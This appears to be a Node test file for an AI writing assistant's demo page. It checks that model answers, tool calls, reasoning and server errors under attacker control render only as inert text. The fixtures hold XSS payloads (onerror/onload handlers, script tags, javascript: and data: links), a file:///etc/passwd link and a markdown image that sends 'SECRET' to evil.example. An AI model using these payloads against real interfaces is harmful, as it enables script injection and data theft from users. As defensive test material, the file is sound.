// The demo with a model, a server and a tool result under an attacker's control: everything they return is shown as text.
import assert from "node:assert/strict";
import { test } from "node:test";
import { openAttacked } from "./attacked.mjs";
import { PAYLOADS } from "./payloads.mjs";
import { ask, ended, shadowTrees } from "../demo-page.mjs";
import { serveDemo } from "../harness.mjs";
import { begin, call, chunk, model, status } from "../model.mjs";

const HTML = PAYLOADS.join("\n");
const MARKDOWN = [
  "![picture](https://evil.example/c?d=SECRET)",
  "[script](javascript:trapped(1)) [data](data:text/html,<script>trapped(2)</script>) [file](file:///etc/passwd)",
  "[link](https://evil.example/a) https://evil.example/bare **<img src=x onerror=trapped(3)>** `<img src=x onerror=trapped(4)>`",
  "<https://evil.example/auto> [x]: https://evil.example/reference",
  "# <img src=x onerror=trapped(5)>\n\n1. <svg onload=trapped(6)>\n\n```html\n<script>trapped(7)</script>\n```",
].join("\n\n");

async function openDemo(t, server, { mode = "auto", expected } = {}) {
  const search = `?baseUrl=${encodeURIComponent(server.baseUrl)}&model=m`;
  const page = await openAttacked(t, (await serveDemo()) + search, {
    expected,
    ownServers: [server.baseUrl],
    viewport: { width: 1440, height: 900 },
    locale: "en-US",
    prepare: async (fresh) => {
      await fresh.addInitScript(shadowTrees);
      await fresh.addInitScript((value) => localStorage.setItem("copydesk.mode", value), mode);
    },
  });
  await page.waitForSelector("html[data-ready]");
  page.arm();
  return page;
}

const update = (id, content) => call(id, "update_section", { operation: "append", title: content.slice(0, 300), content });

for (const mode of ["auto", "review", "ask"]) {
  test(`answers, tool calls and their results are shown as text: ${mode}`, async (t) => {
    const calls = PAYLOADS.map((payload, index) => update(`c${index}<img src=x onerror=trapped(0)>"`, payload));
    const odd = call("odd", "<img src=x onerror=trapped(8)>", { "<img src=x onerror=trapped(9)>": HTML });
    const page = await openDemo(t, await model(t, [{ say: MARKDOWN + HTML, calls: [...calls, odd] }, { say: MARKDOWN }]), { mode });
    await ask(page, `Write <img src=x onerror=trapped(10)>`);
    if (mode === "ask") {
      // Each call waits for its own decision.
      for (let answered = 0; answered < PAYLOADS.length; answered++) {
        const button = page.locator(".row[data-state=approval] .row-approval button").nth(1);
        if (!(await button.waitFor({ timeout: 2000 }).then(() => true, () => false))) break;
        await button.click();
      }
    }
    await ended(page);
    // Collapsed content is rendered when it is opened.
    for (const head of await page.$$(".row-head")) await head.click();
    assert.equal(await page.locator(".run img, .run iframe, .run svg[onload], .run script, .run form, .run input").count(), 0);
    const links = await page.$$eval(".run a", (all) => all.map(({ protocol, rel }) => `${protocol} ${rel}`));
    assert.deepEqual([...new Set(links)].toSorted(), ["http: noopener noreferrer", "https: noopener noreferrer"]);
    assert.equal(await page.locator(".tiptap img[src*=evil], .tiptap iframe").count(), 0);
  });
}

test("thinking, errors and server messages are shown as text", async (t) => {
  const thinking = (response) => {
    begin(response);
    response.end(chunk({ reasoning_content: HTML }) + chunk({ content: MARKDOWN }) + chunk({}, "stop") + "data: [DONE]\n\n");
  };
  const page = await openDemo(t, await model(t, [thinking, status(400, {}, { error: { message: HTML, code: HTML } })]), { expected: [/status of 400/] });
  await ask(page, "Think");
  await ended(page);
  await ask(page, "Fail");
  await page.waitForSelector(".failure");
  assert.equal(await page.locator(".run img, .run iframe, .run script, .run form").count(), 0);
  await page.waitForTimeout(100);
  page.problems.length = 0;
});
